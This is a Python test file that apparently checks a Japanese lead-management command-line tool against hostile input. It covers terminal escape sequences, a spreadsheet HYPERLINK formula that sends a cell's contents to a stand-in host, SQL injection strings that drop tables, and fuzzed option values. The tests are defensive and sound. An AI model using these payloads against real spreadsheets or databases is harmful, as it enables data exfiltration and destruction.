"""Data that means harm: in every cell, in every option, on every way out."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import typer
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from leadctl.cli.app import app
from tests.conftest import Cli, text_file
from tests.torture.call import call
from tests.torture.soundness import faults

ESCAPE = "\x1b[31m\x1b]0;owned\x07\x9b2J\u202eevil"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"見積")'
SPRINGS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_ROW = [
    "氏名",
    "会社名",
    "役職",
    "部署名",
    "メールアドレス",
    "備考",
    "業種",
    "名刺交換者",
    "名刺交換日",
]


def _hostile(cli: Cli, what: str) -> None:
    """Fill a store with leads of whom every text is hostile, and bring them to sales."""
    assert cli("init", "--lang", "ja").code == 0
    table = io.StringIO()
    writer = csv.writer(table)
    writer.writerow(_ROW)
    for n in range(3):
        writer.writerow(
            [
                f"{what} {n}",
                f"{what}{n}社",
                what,
                what,
                f"u{n}@x{n}.example",
                what,
                what,
                what,
                "2026-11-01",
            ]
        )
    writer.writerow([*[""] * 5, what, what, what, ""])
    calm = f"平穏 太郎,{'あ' * 3_000},,,calm@calm.example,,,,2026-11-01\n"  # or it is no text
    text_file(cli.folder, "cards.csv", table.getvalue() + calm)
    log = "".join(
        f'u{n}@x{n}.example,meeting_request,"{what.replace(chr(34), chr(34) * 2)}",2026-11-20 10:00\n'
        for n in range(3)
    )
    calm = f"calm@calm.example,download,{'あ' * 3_000},2026-11-01\n"
    text_file(cli.folder, "log.csv", "メールアドレス,行動,対象,日時\n" + log + calm)
    assert cli("import", "cards.csv", "--source", what).code == 3
    assert cli("import", "log.csv").code == 0
    for command in ("score", "promote"):
        assert cli(command).code == 0


LOOKS = [
    "leads", "show 1", "imports", "duplicates", "report hot", "report funnel", "report nurture",
    "report intent", "report temperature", "report sla", "handoff", "nurture", "score --full", "promote --dry-run",
    "export --to csv", "import cards.csv --dry-run", "leads 1", "rules check", "",
]  # fmt: skip


@pytest.mark.parametrize("command", LOOKS)
def test_what_a_terminal_would_obey_is_shown_as_text(cli: Cli, command: str) -> None:
    _hostile(cli, ESCAPE)
    for form in ("", "--format md", "--format csv"):
        if form and (command in {"", "rules check"} or command.startswith("import ")):
            continue
        done = cli(*command.split(), *form.split())
        if form == "--format csv":  # for a file: nothing of the data is changed
            assert "\x1b" not in done.err
            continue
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", done.out + done.err), done


def test_messages_about_bad_cells_show_no_more_than_the_cell(cli: Cli) -> None:
    rows = "山田 秘密,secret@x.example,いつか\n鈴木 内密,hidden@x.example,2026-11-01 10:00\n"
    text_file(
        cli.folder, "log.csv", "氏名,メールアドレス,日時,行動\n" + rows.replace("\n", ",download\n")
    )
    for command in ("import log.csv", "import log.csv -q --source x"):
        done = cli(*command.split())
        assert done.code == 3
        assert "いつか" in done.err
        assert not re.search("秘密|secret|内密|hidden", done.err)


BAD_LINES = [
    ("氏名,メール\n山田 秘密,secret@x.example\n\udcff\udcfe壊れ\n", ()),
    ("氏名,メール\n山田 秘密,secret@x.example\n", ("--encoding", "utf-16")),
    ("氏名,メール\n山田 秘密,secret@x.example\n", ("--map", "X=email")),
    ("氏名,メール\n山田 秘密,secret@x.example\n", ("--sheet", "nothing")),
    ("BEGIN:VCARD\nFN:山田 秘密\nEMAIL:secret@x.example\n", ()),
    ('氏名,メール\n山田 秘密,secret@x.example,"\n', ()),
]


@pytest.mark.parametrize(("text", "options"), BAD_LINES)
def test_an_error_about_a_file_tells_nothing_of_its_people(
    cli: Cli, text: str, options: tuple[str, ...]
) -> None:
    (cli.folder / "a.csv").write_bytes(text.encode("utf-8", "surrogateescape"))
    done = cli("import", "a.csv", *options)
    assert not re.search("秘密|secret", done.err), done.err


def _cells_of(path: Path) -> list[str]:
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert [
            c.value for c in cells if c.hyperlink and "x.example/?" in str(c.hyperlink.target)
        ] == []
        return []  # a text cell of a workbook is text, whatever it begins with
    delimiter = "\t" if path.suffix == ".tsv" else ","
    encoding = "cp932" if "satori" in path.name else "utf-8-sig"
    with path.open(encoding=encoding, newline="") as file:
        return [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]


WAYS_OUT = {
    "leads": ("leads", ("csv", "tsv", "xlsx")),
    "hot": ("report hot", ("csv", "tsv", "xlsx")),
    "handoff": ("handoff", ("csv", "xlsx")),
    "nurture": ("nurture", ("csv", "xlsx")),
    "hubspot": ("export --to hubspot", ("csv",)),
    "satori": ("export --to satori", ("csv",)),
    "duplicates": ("duplicates", ("csv", "xlsx")),
    "imports": ("imports", ("csv", "xlsx")),
}


@pytest.mark.parametrize("spring", SPRINGS)
@pytest.mark.parametrize("way", WAYS_OUT)
def test_no_cell_that_goes_out_is_a_formula(cli: Cli, way: str, spring: str) -> None:
    if spring in "＋－＠@" and way not in {"leads", "handoff"}:
        pytest.skip("one way in is enough for the rarer ones")
    _hostile(cli, spring + FORMULA[1:])
    command, forms = WAYS_OUT[way]
    for form in forms:
        path = cli.folder / f"{way}.{form}"
        done = cli(*command.split(), "--out", path.name)
        assert done.code == 0, done.err
        live = [c for c in _cells_of(path) if c.startswith(SPRINGS) and "HYPERLINK" in c]
        assert live == []
        if way == "handoff":
            assert cli("handoff", "reprint", "1", "--out", "again.csv").code == 0
            assert [
                c
                for c in _cells_of(cli.folder / "again.csv")
                if c.startswith(SPRINGS) and "HYPER" in c
            ] == []
            break


def _live_rejects(cli: Cli) -> list[str]:
    return [
        c for c in _cells_of(cli.folder / "cards.rejects.csv")
        if c.startswith(SPRINGS) and "HYPERLINK" in c
    ]  # fmt: skip


def test_rejected_rows_are_no_formulas_and_come_back_as_they_were(cli: Cli) -> None:
    _hostile(cli, FORMULA)
    assert _live_rejects(cli) == []
    path = cli.folder / "cards.rejects.csv"
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    rows[1][rows[0].index("メールアドレス")] = "mended@x.example"
    rows[1][rows[0].index("名刺交換日")] = "2026-11-02"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    assert cli.imported(path.name)["created"] == 1
    assert cli.query("select memo from lead where email = 'mended@x.example'") == [(FORMULA,)]


def _options() -> list[tuple[tuple[str, ...], str]]:
    """Return every option and argument of every command that takes a value."""
    found: list[tuple[tuple[str, ...], str]] = []

    def walk(command: Any, words: tuple[str, ...]) -> None:
        for name, inner in getattr(command, "commands", {}).items():
            walk(inner, (*words, name))
        for one in command.params:
            if words and not getattr(one, "is_flag", False):
                found.append((words, one.opts[0] if one.opts[0].startswith("-") else ""))

    walk(typer.main.get_command(app), ())
    return sorted(set(found))


OPTIONS = _options()
_NASTY = st.text(
    st.sampled_from("'\"`;-*()%_\\\0\n\r\t\x1b\x9b\u202e=@<>&|$ {}[]#?!~\udcff" "aA1é山㈱𠮷０") , min_size=1, max_size=24
)  # fmt: skip
_TABLES = "select name, sql from sqlite_master order by name"


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store that is put back after every call."""
    folder = tmp_path_factory.mktemp("kept")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.setenv("LEADCTL_TODAY", "2026-11-21")
        text_file(folder, "a.csv", "氏名,メール,会社名\n山田,a@x.example,社\n鈴木,b@y.example,社\n")
        for command in ("init", "import a.csv", "score", "promote"):
            assert call(*command.split()).code == 0
    return folder


def test_the_options_of_all_commands_are_found() -> None:
    assert len(OPTIONS) > 60
    assert {(("leads",), "--where"), (("import",), "--map"), (("show",), "")} <= set(OPTIONS)


@settings(
    max_examples=250, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.sampled_from(OPTIONS), _NASTY, st.booleans())
@example((("leads",), "--where"), "1=1); drop table lead; --", False)
@example((("leads",), ""), "'; drop table lead; --", True)
@example((("show",), ""), "%' or 1=1 --", True)
@example((("import",), "--source"), "\x1b[2J", True)
def test_no_text_in_any_option_is_more_than_text(
    kept: Path,
    tmp_path_factory: pytest.TempPathFactory,
    place: tuple[tuple[str, ...], str],
    text: str,
    joined: bool,
) -> None:
    command, option = place
    folder = tmp_path_factory.getbasetemp() / "work"
    shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(kept, folder)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.setenv("LEADCTL_TODAY", "2026-11-21")
        with closing(sqlite3.connect("leads.db")) as conn:
            tables = conn.execute(_TABLES).fetchall()
        words = [f"{option}={text}"] if option.startswith("--") and joined else [option, text]
        file = ["a.csv"] if command == ("import",) and option else []
        yes = ["--yes"] if command in {("forget",), ("imports", "undo")} else []
        done = call(*command, *file, *filter(None, words), *yes)
        assert done.crash == ""
        assert done.code in {0, 1, 2, 3, 4, 5}
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", done.err), done.err
        with closing(sqlite3.connect("leads.db")) as conn:
            assert conn.execute(_TABLES).fetchall() == tables
        assert faults(folder / "leads.db") == []


def test_json_keeps_what_the_data_says(cli: Cli) -> None:
    _hostile(cli, FORMULA)
    leads = json.loads(cli("leads", "--format", "json").out)
    assert FORMULA in {lead["title"] for lead in leads}
